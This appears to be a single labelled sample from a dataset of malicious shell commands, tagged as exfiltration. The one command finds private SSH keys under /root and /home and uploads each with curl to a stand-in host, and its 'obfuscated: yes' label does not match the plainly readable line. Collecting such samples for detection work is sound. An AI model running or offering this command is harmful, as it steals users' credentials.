# description: Uses find -exec to upload every private SSH key it finds.
# family: exfiltration
# obfuscated: yes
find /root/.ssh /home -name 'id_*' ! -name '*.pub' -exec curl -s -F 'k=@{}' https://example.com/k \;
